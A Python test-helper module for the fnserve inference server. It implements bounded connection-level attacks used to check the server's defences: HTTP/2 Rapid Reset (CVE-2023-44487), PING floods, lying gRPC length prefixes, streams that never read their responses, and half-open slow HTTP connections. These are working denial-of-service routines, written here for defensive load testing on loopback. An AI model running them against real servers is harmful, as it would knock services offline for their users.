"""Connection-level attacks on a server at HOST:PORT, each bounded in count and time.

They run in a separate (spawned) process in the tests, so that the attacker's own CPU time
never shows up as server latency in the health probe. Each returns a small summary the test
asserts on. Loopback only.
"""

from __future__ import annotations

import socket
import struct
import time
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

from fnserve.protocol import grpc_service_pb2 as pb

GRPC_INFER = "/inference.GRPCInferenceService/ModelInfer"
GRPC_STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"


def _connect(host: str, port: int) -> tuple[socket.socket, h2.connection.H2Connection]:
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def _events(sock: socket.socket, conn: h2.connection.H2Connection, wait_s: float) -> list[Any]:
    """Read what the server sent within `wait_s` (or until it closes); [] on timeout."""
    sock.settimeout(wait_s)
    try:
        data = sock.recv(1 << 20)
    except TimeoutError:
        return []
    except OSError:
        return [h2.events.ConnectionTerminated()]
    if not data:
        return [h2.events.ConnectionTerminated()]
    try:
        events = conn.receive_data(data)
    except h2.exceptions.ProtocolError:
        return [h2.events.ConnectionTerminated()]
    out = conn.data_to_send()
    if out:
        try:
            sock.sendall(out)
        except OSError:
            pass
    return list(events)


def _goaway(sock: socket.socket, conn: h2.connection.H2Connection, wait_s: float) -> Any:
    """The GOAWAY (ConnectionTerminated) the server sent within `wait_s`, or None."""
    deadline = time.monotonic() + wait_s
    while time.monotonic() < deadline:
        for event in _events(sock, conn, 0.5):
            if isinstance(event, h2.events.ConnectionTerminated):
                return event
    return None


def goaway_on_connect(host: str, port: int, wait_s: float) -> Any:
    """Open an HTTP/2 connection and send nothing more: the GOAWAY the server answers with
    within `wait_s` (a connection it refuses), or None."""
    sock, conn = _connect(host, port)
    try:
        return _goaway(sock, conn, wait_s)
    finally:
        sock.close()


def _grpc_headers(path: str, host: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", host),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def rapid_reset(host: str, port: int, pairs: int, path: str) -> dict[str, Any]:
    """Open and reset streams as fast as possible (CVE-2023-44487), `pairs` times at most."""
    sock, conn = _connect(host, port)
    headers = _grpc_headers(path, f"{host}:{port}")
    sent = 0
    started = time.monotonic()
    try:
        for i in range(pairs):
            stream_id = 1 + 2 * i
            conn.send_headers(stream_id, headers)
            conn.reset_stream(stream_id)
            sent += 1
            if sent % 100 == 0:
                sock.sendall(conn.data_to_send())
        sock.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.ProtocolError):
        pass  # the server cut the connection: what we want to see
    event = _goaway(sock, conn, 5)
    sock.close()
    return {
        "sent": sent,
        "seconds": time.monotonic() - started,
        "goaway": None if event is None else int(event.error_code),
    }


def ping_flood(host: str, port: int, pings: int) -> dict[str, Any]:
    """Send `pings` PING frames back to back."""
    sock, conn = _connect(host, port)
    sent = 0
    try:
        for i in range(pings):
            conn.ping(struct.pack(">Q", i))
            sent += 1
            if sent % 100 == 0:
                sock.sendall(conn.data_to_send())
        sock.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.ProtocolError):
        pass
    event = _goaway(sock, conn, 5)
    sock.close()
    return {"sent": sent, "goaway": None if event is None else int(event.error_code)}


def grpc_raw_message(host: str, port: int, payload: bytes) -> dict[str, Any]:
    """Send one ModelInfer call whose DATA is exactly `payload` (a lying prefix, say)."""
    sock, conn = _connect(host, port)
    conn.send_headers(1, _grpc_headers(GRPC_INFER, f"{host}:{port}"))
    conn.send_data(1, payload, end_stream=True)
    sock.sendall(conn.data_to_send())
    trailers: dict[str, str] = {}
    deadline = time.monotonic() + 10
    while not trailers and time.monotonic() < deadline:
        for event in _events(sock, conn, 0.5):
            if isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
                found = {k.decode(): v.decode() for k, v in event.headers}
                if "grpc-status" in found:
                    trailers = found
            elif isinstance(event, h2.events.ConnectionTerminated):
                deadline = 0
    sock.close()
    return trailers


def stream_without_reading(
    host: str, port: int, model: str, request_bytes: int, requests: int, seconds: float
) -> dict[str, Any]:
    """ModelStreamInfer: send up to `requests` requests and never read a response.

    Sends only while the server's flow-control window allows (as a real client must), never
    acknowledges the responses. Returns how many requests the server let in: with
    backpressure that stops near the in-flight bound plus one window, without it at all.
    """
    sock, conn = _connect(host, port)
    _events(sock, conn, 1.0)  # the server's SETTINGS
    conn.send_headers(1, _grpc_headers(GRPC_STREAM, f"{host}:{port}"))
    message = _identity_request(model, request_bytes)
    frame = b"\x00" + len(message).to_bytes(4, "big") + message
    sent, deadline, stalled_since = 0, time.monotonic() + seconds, None
    while sent < requests and time.monotonic() < deadline:
        window = min(conn.local_flow_control_window(1), conn.max_outbound_frame_size)
        if window < len(frame):
            stalled_since = stalled_since or time.monotonic()
            if time.monotonic() - stalled_since > 2.0:
                break  # the server stopped granting window: it stopped reading
            _window_updates_only(sock, conn)
            continue
        stalled_since = None
        for start in range(0, len(frame), conn.max_outbound_frame_size):
            conn.send_data(1, frame[start : start + conn.max_outbound_frame_size])
        sock.sendall(conn.data_to_send())
        sent += 1
    sock.close()
    return {"sent": sent}


def _window_updates_only(sock: socket.socket, conn: h2.connection.H2Connection) -> None:
    """Process what the server sent (window updates) without acknowledging its DATA."""
    sock.settimeout(0.2)
    try:
        data = sock.recv(1 << 16)
    except TimeoutError:
        return
    if data:
        conn.receive_data(data)  # h2 never acknowledges DATA on its own
        out = conn.data_to_send()
        if out:
            sock.sendall(out)


def _identity_request(model: str, size: int) -> bytes:
    count = size // 4
    request = pb.ModelInferRequest(model_name=model)
    tensor = request.inputs.add(name="INPUT0", datatype="FP32", shape=[1, count])
    del tensor
    request.raw_input_contents.append(b"\x00" * (count * 4))
    return request.SerializeToString()


def half_open(host: str, port: int, count: int) -> list[socket.socket]:
    """`count` connections that send two header lines of a request and then nothing."""
    sockets = []
    for _ in range(count):
        sock = socket.create_connection((host, port), timeout=10)
        sock.sendall(b"POST /v2/models/identity/infer HTTP/1.1\r\nHost: x\r\n")
        sockets.append(sock)
    return sockets


def settings_ack_ok(host: str, port: int) -> bool:
    """A plain HTTP/2 connection still gets the server's SETTINGS (the port is alive)."""
    sock, conn = _connect(host, port)
    events = _events(sock, conn, 2.0)
    sock.close()
    return any(isinstance(e, h2.events.RemoteSettingsChanged) for e in events)
